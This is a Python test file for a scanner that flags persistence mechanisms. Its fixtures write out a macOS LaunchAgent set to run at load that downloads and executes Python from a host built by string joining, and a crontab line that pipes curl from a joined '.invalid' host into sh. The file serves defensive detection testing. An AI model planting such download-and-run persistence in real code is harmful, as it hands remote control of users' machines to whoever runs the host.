"""A Python command line built with ``%`` formatting keeps its known text when a filled-in piece is
not known (``"exec(urlopen(%r).read())" % url``), and a table's value made by ``"sep".join`` of
constants is that string: a start-up entry running such a command still reads as downloading and
running code. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_AGENT = (
    "import os, pathlib, subprocess\n"
    "SRC = {'host': '.'.join(['mesh', 'render-farm', 'invalid']), 'path': '/boot.py'}\n"
    "url = os.environ.get('FARM_URL') or 'https://' + SRC['host'] + SRC['path']\n"
    "line = 'import urllib.request as r; exec(r.urlopen(%r).read())' % url\n"
    "plist = pathlib.Path.home() / 'Library/LaunchAgents/net.farm.node.plist'\n"
    "plist.write_text('<plist><dict><key>ProgramArguments</key><array>'\n"
    "    + ''.join('<string>%s</string>' % w for w in ['/usr/bin/python3', '-c', line])\n"
    "    + '</array><key>RunAtLoad</key><true/></dict></plist>')\n"
)


def test_launch_agent_running_formatted_downloader(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"scripts/node.py": _AGENT})
    assert ("PERSISTENCE", "scripts/node.py", 6) in errors


def test_cron_line_from_a_joined_host(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/cron.py": "import subprocess\n"
            "CFG = {'mirror': '.'.join(('tiles', 'mesh-sync', 'invalid'))}\n"
            "entry = '*/30 * * * * %s -fsSL https://%s/t | sh\\n' % (CFG.get('curl', 'curl'), CFG['mirror'])\n"
            "subprocess.run(['crontab', '-'], input=entry, text=True)\n"
        },
    )
    assert any(rule == "PERSISTENCE" and path == "scripts/cron.py" for rule, path, _ in errors)


def test_launch_agent_running_a_bundled_script_stays_clean(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/node.py": "import os, pathlib\n"
            "here = os.path.dirname(os.path.abspath(__file__))\n"
            "line = '%s/render_queue.py --once' % here\n"
            "plist = pathlib.Path.home() / 'Library/LaunchAgents/net.farm.queue.plist'\n"
            "plist.write_text('<plist><dict><key>ProgramArguments</key><array>'\n"
            "    + ''.join('<string>%s</string>' % w for w in ['/usr/bin/python3', line])\n"
            "    + '</array></dict></plist>')\n",
            "scripts/render_queue.py": "print('queue empty')\n",
        },
    )
    assert not errors
